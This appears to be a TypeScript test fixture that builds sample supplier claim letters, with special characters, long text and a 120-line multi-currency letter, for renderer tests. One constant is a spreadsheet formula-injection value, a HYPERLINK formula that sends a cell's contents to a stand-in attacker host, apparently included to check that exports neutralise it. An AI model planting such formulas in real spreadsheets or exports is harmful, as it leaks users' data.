import { Decimal } from 'decimal.js';
import type {
  ClaimLetter,
  ClaimLetterLine,
  ClaimLetterRefund,
  ClaimLetterTotal,
} from '../../../../src/claims/export/letter.js';

// Claim letters built in code for the renderer tests: a short Nordic one with German letters, and
// a long one (120 lines, three currencies) that must paginate.

export const SUPPLIER_NAME = 'Ærøskøbing Åkeri & Müller Straßenbau AS';
export const SPECIAL_LETTERS = 'ÆØÅ æøå ÄÖÜ äöüß';
export const FORMULA_DESCRIPTION = '=HYPERLINK("http://evil.example/?x="&A1,"Click")';
export const LONG_DESCRIPTION =
  'Senior consulting on the migration of the warehouse management system, including on-site workshops in Tromsø, ' +
  'Göteborg and Düsseldorf, travel days, preparation of the cut-over plan, two rounds of acceptance testing with the ' +
  'operations team, documentation of every interface and a hand-over session for the night shift supervisors. ' +
  'Supercalifragilisticexpialidocious-identifier-without-any-spaces-that-must-still-wrap-inside-its-column-0123456789';

export function line(overrides: Partial<ClaimLetterLine> = {}): ClaimLetterLine {
  return {
    alertId: '0b7e1d2c-6f0e-4d7a-9a51-3f6a1c2b9d01',
    alertStatus: 'claimed',
    invoiceId: 'inv-1',
    invoiceNumber: 'INV-2026-0141',
    issueDate: '2026-03-14',
    lineReference: '3',
    description: 'Consulting, senior',
    quantity: '12.5',
    unit: 'HUR',
    chargedUnitPrice: '1250.00',
    agreedUnitPrice: '1100.00',
    chargedAmount: '15625.00',
    agreedAmount: '13750.00',
    difference: '1875.00',
    currencyCode: 'NOK',
    title: 'Unit price above the agreed price',
    explanation: 'Line 3 charges 1250.00 NOK per HUR; the price list agrees 1100.00 NOK per HUR.',
    citation: "Price list 2026, item 'Consulting, senior': 1100.00 NOK per HUR",
    ...overrides,
  };
}

/** Per-currency totals of the lines' differences minus the refunds, computed exactly. */
export function totalsOf(lines: ClaimLetterLine[], refunds: ClaimLetterRefund[]): ClaimLetterTotal[] {
  const currencies = [...new Set([...lines.map((l) => l.currencyCode), ...refunds.map((r) => r.currencyCode)])].sort();
  return currencies.map((currencyCode) => {
    const claimed = lines
      .filter((l) => l.currencyCode === currencyCode && l.alertStatus === 'claimed')
      .reduce((sum, l) => sum.plus(l.difference), new Decimal(0));
    const refunded = refunds
      .filter((r) => r.currencyCode === currencyCode)
      .reduce((sum, r) => sum.plus(r.amount), new Decimal(0));
    return {
      currencyCode,
      claimed: claimed.toFixed(2),
      refunded: refunded.toFixed(2),
      outstanding: claimed.minus(refunded).toFixed(2),
    };
  });
}

export function letter(overrides: Partial<ClaimLetter> = {}): ClaimLetter {
  const lines = overrides.lines ?? [
    line(),
    line({
      alertId: 'a2',
      lineReference: '4',
      description: `Reisekosten für Jürgen Größ (${SPECIAL_LETTERS})`,
      quantity: '1',
      unit: 'EA',
      chargedUnitPrice: '4980.50',
      agreedUnitPrice: '4200.00',
      chargedAmount: '4980.50',
      agreedAmount: '4200.00',
      difference: '780.50',
      citation: 'Agreement § 7.2: “Travel is invoiced at cost, at most 4,200 NOK per trip.”',
    }),
    line({
      alertId: 'a3',
      invoiceId: 'inv-2',
      invoiceNumber: 'INV-2026-0187',
      issueDate: '2026-04-02',
      lineReference: null,
      description: null,
      quantity: null,
      unit: null,
      chargedUnitPrice: null,
      agreedUnitPrice: null,
      chargedAmount: null,
      agreedAmount: null,
      difference: '350.00',
      title: 'Invoicing fee not in the agreement',
      explanation: 'The invoice charges an invoicing fee of 350.00 NOK; the agreement has no invoicing fee.',
      citation: null,
    }),
  ];
  const refunds = overrides.refunds ?? [
    { date: '2026-05-20', amount: '500.00', currencyCode: 'NOK', reference: 'CN-5521' },
  ];
  return {
    reference: 'CLM-2026-0042',
    title: 'Overcharges on consulting, first half 2026',
    status: 'in_progress',
    createdAt: '2026-05-02T08:30:00Z',
    generatedAt: '2026-06-01T09:15:00Z',
    organization: {
      name: 'Nordlys Eiendom AS',
      organizationNumber: '923 456 789',
      vatId: 'NO923456789MVA',
      address: ['Kongens gate 12', '0153 Oslo', 'Norway'],
    },
    supplier: {
      name: SUPPLIER_NAME,
      organizationNumber: '987 654 321',
      vatId: null,
      address: ['Østre Havnegade 4', '5970 Ærøskøbing', 'Denmark'],
    },
    supplierContact: { name: 'Åsa Øberg', email: 'faktura@aeroe-akeri.example' },
    agreement: {
      id: 'agr-1',
      title: 'Rammeavtale konsulenttjenester 2026',
      startDate: '2026-01-01',
      endDate: '2026-12-31',
    },
    note: `We have also sent this claim by e-mail. Grüße an das Team in Düsseldorf. Special letters: ${SPECIAL_LETTERS}.`,
    lines,
    totals: overrides.totals ?? totalsOf(lines, refunds),
    refunds,
    ...overrides,
  };
}

const CURRENCIES = ['EUR', 'NOK', 'SEK'] as const;

/** 120 lines on 40 invoices in three currencies, with a long and a formula-looking description. */
export function longLetter(): ClaimLetter {
  const lines: ClaimLetterLine[] = [];
  for (let index = 0; index < 120; index++) {
    const invoice = Math.floor(index / 3);
    const currencyCode = CURRENCIES[invoice % 3]!;
    const quantity = new Decimal(index % 7).plus(1).plus(new Decimal(index % 4).dividedBy(4));
    const agreed = new Decimal(100).plus(invoice * 37.5);
    const charged = agreed.plus(new Decimal(index % 5).plus(1).times('12.35'));
    lines.push(
      line({
        alertId: `alert-${index + 1}`,
        invoiceId: `inv-${invoice + 1}`,
        invoiceNumber: `INV-2026-${String(1000 + invoice)}`,
        issueDate: `2026-${String(1 + Math.floor(invoice / 4)).padStart(2, '0')}-${String(1 + (invoice % 28)).padStart(2, '0')}`,
        lineReference: String((index % 3) + 1),
        description:
          index === 7
            ? LONG_DESCRIPTION
            : index === 8
              ? FORMULA_DESCRIPTION
              : `Service item ${index + 1} – Wartung und Prüfung`,
        quantity: quantity.toFixed(),
        unit: 'HUR',
        chargedUnitPrice: charged.toFixed(2),
        agreedUnitPrice: agreed.toFixed(2),
        chargedAmount: charged.times(quantity).toFixed(2),
        agreedAmount: agreed.times(quantity).toFixed(2),
        difference: charged.minus(agreed).times(quantity).toFixed(2),
        currencyCode,
        citation:
          index === 7
            ? `Rammeavtale, bilag 2 (prisliste), punkt 4.${index}: “${LONG_DESCRIPTION}”`
            : `Price list 2026, item 'Service ${index % 9}': ${agreed.toFixed(2)} ${currencyCode} per HUR`,
      }),
    );
  }
  const refunds: ClaimLetterRefund[] = [
    { date: '2026-05-20', amount: '500.00', currencyCode: 'NOK', reference: 'CN-5521' },
    { date: '2026-05-28', amount: '120.75', currencyCode: 'EUR', reference: null },
  ];
  return letter({ lines, refunds, totals: totalsOf(lines, refunds) });
}
